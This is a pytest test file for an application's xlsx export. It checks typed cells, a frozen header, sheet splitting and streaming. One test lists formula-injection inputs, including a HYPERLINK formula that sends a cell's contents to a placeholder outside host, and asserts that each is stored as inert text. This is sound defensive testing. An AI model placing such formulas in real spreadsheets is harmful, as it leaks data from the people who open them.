"""Exports as workbooks: typed cells, a frozen header, and nothing in them that runs."""

import io
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from app.exports import files, workbooks
from app.runtime import Runtime
from tests.exports.test_files import AT, command, judged, save

ON_SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
COLUMNS = ("text", "number", "moment")


def written(rows: list[Mapping[str, Any]], **more: int) -> Any:
    out = io.BytesIO()
    assert workbooks.write(out, "all", COLUMNS, iter(rows), **more) == len(rows)
    return load_workbook(out)


def texts(*said: object) -> list[Mapping[str, Any]]:
    return [{"text": one, "number": None, "moment": None} for one in said]


@ON_SQLITE
def test_dates_and_numbers_are_typed_and_the_header_stays_in_sight(rt: Runtime, tmp_path: Path) -> None:
    wave = judged(rt, first_name="Nicolò & <Ada>")
    file = tmp_path / "new" / "out.xlsx"
    assert save(rt, file, "reengaged", "xlsx") == 1
    book = load_workbook(file)
    sheet = book["reengaged"]
    header, row = sheet.iter_rows()
    assert tuple(cell.value for cell in header) == files.COLUMNS
    assert (header[0].font.bold, sheet.freeze_panes) == (True, "A2")
    found = dict(zip(files.COLUMNS, row, strict=True))
    assert found["first_name"].value == "Nicolò & <Ada>"
    assert (found["phone"].value, found["phone"].data_type) == (wave.contacts["ada"].phone, "s")
    assert (found["decided_at"].value, found["decided_at"].is_date) == (AT.replace(tzinfo=None), True)
    assert found["nps"].value is None
    assert [one.name for one in file.parent.iterdir()] == ["out.xlsx"]


@pytest.mark.parametrize(
    "evil", ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", " =1", "＝1"]
)
def test_what_a_spreadsheet_would_run_is_a_text(evil: str) -> None:
    (cell,) = written(texts(evil))["all"]["A"][1:]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)


def test_every_kind_of_cell() -> None:
    moment = datetime(2026, 3, 29, 1, 30, 15, 999, UTC)
    told = [
        {"text": "#N/A", "number": 10, "moment": moment},
        *texts("", None, "a\x00b\x0bc\ufffe", "é" * 40_000),
    ]
    sheet = written(told)["all"]
    first = next(sheet.iter_rows(min_row=2))
    assert [(cell.value, cell.data_type) for cell in first] == [
        ("#N/A", "s"),
        (10, "n"),
        (moment.replace(microsecond=0, tzinfo=None), "d"),
    ]
    assert [cell.value for cell in sheet["A"][2:5]] == [None, None, "a\ufffdb\ufffdc\ufffd"]
    assert (len(sheet["A"][5].value), sheet["A"][5].value[-1]) == (32_767, "…")


def test_what_one_sheet_cannot_hold_goes_on_in_the_next() -> None:
    book = written(texts(*range(1000)), most=450)
    assert [(sheet.title, sheet.max_row, sheet["A1"].value) for sheet in book] == [
        ("all", 451, "text"),
        ("all 2", 451, "text"),
        ("all 3", 101, "text"),
    ]
    assert [row[0] for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)] == list(
        range(1000)
    )
    assert [sheet.title for sheet in written([], most=450)] == ["all"]


def test_rows_are_packed_as_they_come() -> None:
    out, seen = io.BytesIO(), []

    def rows() -> Iterator[Mapping[str, Any]]:
        for number in range(20_000):
            seen.append(out.tell())
            yield {"text": f"{number * 7919 % 20_011}", "number": number, "moment": None}

    workbooks.write(out, "all", COLUMNS, rows())
    assert seen[-1] > seen[10_000] > 0, "nothing waits for the last row"


@ON_SQLITE
def test_the_command_writes_one(rt: Runtime, tmp_path: Path) -> None:
    judged(rt)
    file = tmp_path / "out.xlsx"
    for words in (["all", "--format", "xlsx", "--out", str(file)], ["all", "--out", str(file)]):
        assert command(rt, *words).exit_code == 0
        assert load_workbook(file)["all"].max_row == 2
    piped = command(rt, "all", "--format", "xlsx", "--out", "-")
    assert load_workbook(io.BytesIO(piped.stdout_bytes))["all"].max_row == 2
